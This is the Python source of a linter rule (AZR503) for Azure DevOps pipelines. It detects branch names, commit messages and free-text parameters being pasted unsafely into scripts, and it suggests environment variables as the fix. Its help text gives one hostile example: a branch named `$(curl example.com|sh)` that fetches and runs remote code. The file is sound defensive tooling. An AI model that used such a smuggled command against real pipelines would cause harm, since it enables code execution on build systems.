"""AZR503: text of strangers in scripts."""

import re
from collections.abc import Iterator

from azrelease.diagnostics import SCRIPT_INJECTION, Diagnostic, Severity
from azrelease.lint.rule import Rule
from azrelease.lint.scripts import Script
from azrelease.lint.subject import Subject
from azrelease.syntax.embedded import macros, template_expressions

_STRANGERS = frozenset(
    (
        "build.sourcebranch",
        "build.sourcebranchname",
        "build.sourceversionmessage",
        "build.sourceversionauthor",
        "build.requestedfor",
        "system.pullrequest.sourcebranch",
        "system.pullrequest.sourcebranchname",
    )
)
"""Variables whose text is chosen by whoever names a branch or writes a commit.

Source: learn.microsoft.com/azure/devops/pipelines/build/variables.
"""

_VARIABLE = re.compile(r"variables(?:\[\s*'([^']+)'\s*\]|\.(\w+))", re.IGNORECASE)
_NOT_YET = frozenset(("build.sourceversionmessage", "system.pullrequest.sourcebranchname"))
"""What is not known yet when templates are expanded: it is empty there."""

_DECIDES = re.compile(
    r"\s*(?:eq|ne|and|or|xor|not|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|length)\s*\(",
    re.IGNORECASE,
)
"""Functions that come out as true, false or a number, whatever text they look at."""

_PARAMETER = re.compile(r"\s*parameters(?:\.(\w+)|\[\s*'([^']+)'\s*\])\s*", re.IGNORECASE)


def check(subject: Subject) -> Iterator[Diagnostic]:
    """Variables by macro or template expression; parameters that a person fills in with any text."""
    for script in subject.scripts:
        if "$" not in script.text:
            continue
        for found in macros(script.text):
            if found[1].casefold() in _STRANGERS and not _in_comment(script, found.start()):
                message = f"`{found[0]}` is pasted into the script: whoever names a branch or writes a commit can run commands"
                where = (script, found.start(), found.end())
                yield subject.in_script(SCRIPT_INJECTION, message, where, _instead(found[1], script))
        for part in template_expressions(script.text):
            yield from _in_template(subject, script, part.text or "", (script, part.start, part.end))


def _in_comment(script: Script, position: int) -> bool:
    return script.language != "cmd" and script.line_before(position).startswith("#")


def _in_template(subject: Subject, script: Script, text: str, where: tuple[Script, int, int]) -> Iterator[Diagnostic]:
    for variable in () if _DECIDES.match(text) else _VARIABLE.finditer(text):
        name = variable[1] or variable[2]
        if name.casefold() in _STRANGERS - _NOT_YET:
            message = f"`{name}` is pasted into the script: whoever names a branch or writes a commit can run commands"
            yield subject.in_script(SCRIPT_INJECTION, message, where, _instead(name, script))
    given = _PARAMETER.fullmatch(text)
    name = (given[1] or given[2]) if given else ""
    parameter = subject.file.parameters.get(name.casefold()) if subject.file.is_pipeline else None
    if parameter is not None and parameter.type == "string" and parameter.values is None:
        message = f"the parameter `{name}` is pasted into the script: whoever starts a run can run commands"
        hint = "Hand it over in `env`, or list its `values`."
        yield subject.in_script(SCRIPT_INJECTION, message, where, hint, Severity.INFO)


def _instead(name: str, script: Script) -> str:
    variable = re.sub(r"\W", "_", name).upper()
    use = f"$env:{variable}" if script.language == "powershell" else f'"${variable}"'
    if script.language == "python":
        use = f"os.environ['{variable}']"
    if script.language == "cmd":
        return "Use a script in bash or PowerShell, which can take it from the environment as data."
    return f"Take it from the environment, as data: `{use}`."


RULE = Rule(
    SCRIPT_INJECTION,
    "text that a stranger chooses is pasted into a script",
    "Macros and template expressions put their text into the script before the shell reads it: a branch called "
    '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
    "(learn.microsoft.com/azure/devops/pipelines/security/inputs).",
    "steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
    'steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
    check,
)
